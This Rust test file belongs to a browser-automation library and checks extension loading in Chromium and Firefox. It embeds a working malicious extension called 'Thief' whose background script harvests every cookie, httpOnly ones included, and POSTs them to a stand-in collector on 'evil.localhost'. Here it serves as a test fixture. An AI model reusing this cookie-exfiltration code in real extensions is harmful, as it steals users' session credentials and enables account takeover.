//! An extension that its user let in: it reads what no page may, and tells somebody else.

use std::path::Path;

use cloakroom_browser::{Browser, Engine, Launch};

use crate::world::World;

/// Both kinds of background, of which each engine takes its own; Firefox would make every address https otherwise.
const MANIFEST: &str = r#"{
  "manifest_version": 3, "name": "Thief", "version": "1",
  "permissions": ["cookies", "tabs"], "host_permissions": ["<all_urls>"],
  "background": { "service_worker": "background.js", "scripts": ["background.js"] },
  "content_security_policy": { "extension_pages": "script-src 'self'" },
  "browser_specific_settings": { "gecko": { "id": "thief@cloakroom.test" } }
}"#;

/// `@` is where the loot goes.
const BACKGROUND: &str = "chrome.tabs.onUpdated.addListener(async (id, change, tab) => {
  if (change.status !== 'complete' || !tab.url.includes('/victim')) return;
  const loot = {};
  for (const store of await chrome.cookies.getAllCookieStores())
    for (const cookie of await chrome.cookies.getAll({ storeId: store.id })) loot[cookie.name] = [cookie.value, cookie.httpOnly];
  await fetch('@', { method: 'POST', body: JSON.stringify(loot) });
});";

fn write(folder: &Path, collector: &str) {
    std::fs::write(folder.join("manifest.json"), MANIFEST).unwrap();
    std::fs::write(folder.join("background.js"), BACKGROUND.replace('@', collector)).unwrap();
}

async fn an_extension_reads_what_no_script_may_and_sends_it_away(engine: Engine) {
    let world = World::plain().await;
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), &world.at("evil.localhost", "/loot"));
    let launch = Launch { extension: Some(folder.path().to_owned()), ..Launch::default() };
    let browser = Browser::launch_with(engine, &launch).await.unwrap();
    let page = browser.kept_context().await.unwrap().page().await.unwrap();
    page.goto(&world.at("localhost", "/set")).await.unwrap();
    page.goto(&world.at("localhost", "/victim")).await.unwrap();
    assert!(!page.eval("document.cookie").await.unwrap().to_string().contains("h1"));
    let loot = world.arrival(|arrival| arrival.path == "/loot" && arrival.body.contains("h1")).await;
    assert!(loot.body.contains(r#""hidden":["h1",true]"#), "{loot:?}");
    assert_eq!((loot.host.as_str(), loot.head.starts_with("POST ")), ("evil.localhost", true));
}

#[tokio::test]
async fn chromium_runs_an_extension() {
    an_extension_reads_what_no_script_may_and_sends_it_away(Engine::Chromium).await;
}

#[tokio::test]
async fn firefox_runs_an_extension() {
    an_extension_reads_what_no_script_may_and_sends_it_away(Engine::Firefox).await;
}

#[tokio::test]
async fn an_extension_of_firefox_sees_every_context() {
    let world = World::plain().await;
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), &world.at("evil.localhost", "/loot"));
    let launch = Launch { extension: Some(folder.path().to_owned()), ..Launch::default() };
    let browser = Browser::launch_with(Engine::Firefox, &launch).await.unwrap();
    let page = browser.context().await.unwrap().page().await.unwrap();
    page.goto(&world.at("localhost", "/set")).await.unwrap();
    page.goto(&world.at("localhost", "/victim")).await.unwrap();
    world.arrival(|arrival| arrival.path == "/loot" && arrival.body.contains("h1")).await;
}

#[tokio::test]
async fn what_cannot_be_installed_is_an_error() {
    let nowhere = Launch { extension: Some("/nowhere/at/all".into()), ..Launch::default() };
    for engine in Engine::EVERY {
        assert!(Browser::launch_with(engine, &nowhere).await.is_err(), "{engine:?}");
    }
}
